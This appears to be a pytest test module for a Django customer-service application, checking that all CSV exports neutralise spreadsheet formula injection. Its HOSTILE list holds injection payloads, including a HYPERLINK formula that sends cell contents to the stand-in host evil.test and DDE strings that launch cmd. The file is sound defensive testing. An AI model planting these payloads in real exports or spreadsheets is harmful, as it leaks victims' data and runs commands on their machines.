"""Formula injection (issue 10, item 12): every CSV Loxodon writes, read back after hostile values
were planted where customers and staff can type (names, problems, messages, reasons, imported
rows). No cell of any export may start with `=`, `+`, `-`, `@`, a tab or a carriage return; the
planted text is still there, behind an apostrophe (`core.spreadsheet`, the one rule)."""
# ruff: noqa: F811 (pytest fixtures imported from other modules are redefined as arguments)

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse

from loxodon.cases.services import open_case
from loxodon.channels.imports.tests.files import read_report, run, write_csv
from loxodon.core.spreadsheet import FORMULA_STARTS
from loxodon.core.testing import signed_in
from loxodon.customers.services import create_customer
from loxodon.knowledge.models import Article
from loxodon.knowledge.tests.exceptions_fixtures import returns_policy  # noqa: F401
from loxodon.knowledge.tests.test_exceptions_desk import grant
from loxodon.org.models import Site, User
from loxodon.portal.models import DataExport
from loxodon.portal.tests.export_fixtures import portal_client, portal_customer
from loxodon.timeline.services import record_event

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


def formula_safe(text: str) -> list[list[str]]:
    """Every cell of a CSV text; fails on the first one a spreadsheet would run."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for n, row in enumerate(rows, start=1):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"row {n}: {cell!r} runs as a formula"
    return rows


def planted(rows: Iterable[list[str]], values: Iterable[str]) -> None:
    """Each hostile value (as the form or service kept it) is in the export, defused."""
    cells = {cell for row in rows for cell in row}
    for value in values:
        assert any(c.startswith("'") and value.strip() in c for c in cells), value


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path


def test_insights_exports(supervisor: User, agent: User) -> None:
    for value in HOSTILE:
        customer = create_customer(name=value)
        open_case(customer=customer, problem=value, actor=agent, owner=agent)
    board = signed_in(supervisor)
    exported = 0
    for name in ("effort-by-case", "effort-rollup", "csat", "rings"):
        response = board.get(f"/desk/insights/export/{name}.csv", {"period": "30"})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = formula_safe(response.content.decode())
        if name == "effort-by-case":
            assert len(rows) == 1 + len(HOSTILE)
            planted(rows, HOSTILE)
        exported += 1
    assert exported == 4


def test_exceptions_register(
    desk: Client, customer: dict[str, Any], agent: User, returns_policy: Article
) -> None:
    hostile_customer = create_customer(name=HOSTILE[0], email="mallory@example.com")
    case = open_case(customer=hostile_customer, problem="Return", actor=agent, owner=agent)
    for value in HOSTILE:
        assert grant(desk, case, returns_policy, "return_window", "45", value).status_code == 200
    response = desk.get(reverse("knowledge:exceptions"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = formula_safe(response.content.decode())
    assert len(rows) == 1 + len(HOSTILE)
    planted(rows, HOSTILE)


def test_portal_data_download(agent: User) -> None:
    customer, login = portal_customer(HOSTILE[0], "mallory@example.com")
    for value in HOSTILE:
        case = open_case(customer=customer, problem=value, actor=agent, owner=agent)
        record_event(
            customer_id=customer.pk,
            case_id=case.pk,
            kind="message",
            channel="email",
            summary=value,
            body=value,
        )
    client = portal_client(login)
    assert client.post(reverse("portal:my-data")).status_code == 302
    export = DataExport.objects.get(customer=customer)
    response: Any = client.get(reverse("portal:my-data-download", args=[export.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"timeline.csv", "cases.csv"} <= set(names)
    for name in names:
        rows = formula_safe(archive.read(name).decode("utf-8"))
        if name in ("timeline.csv", "cases.csv"):
            planted(rows, HOSTILE)


def test_import_error_report(site: Site, tmp_path: Path) -> None:
    header = ("legacy_id", "first_name", "last_name", "email", "phone", "dob")
    bad = [(v, v, v, v, v, v) for v in HOSTILE]
    path = write_csv(tmp_path / "centre.csv", bad, header=header)
    with pytest.raises(CommandError):
        run("import_customers", path, "--site", site.code)
    with path.with_name("centre.errors.csv").open(newline="", encoding="utf-8") as f:
        rows = formula_safe(f.read())
    assert len(rows) > len(HOSTILE)
    planted(rows, [v for v in HOSTILE if v.strip()])
    assert read_report(path.with_name("centre.errors.csv"))


def test_every_csv_writer_goes_through_the_one_rule() -> None:
    """A new export that forgets `core.spreadsheet` fails here (the demo's generator of sample
    import files is not an export: it writes our own fixed sample data)."""
    writers = []
    for path in ROOT.rglob("*.py"):
        if "/tests/" in str(path) or path.name == "spreadsheet.py":
            continue
        text = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            writers.append(path.relative_to(ROOT).as_posix())
            if path.relative_to(ROOT).as_posix() != "demo/centres.py":
                assert "loxodon.core.spreadsheet import" in text, path
    assert len(writers) >= 5, writers
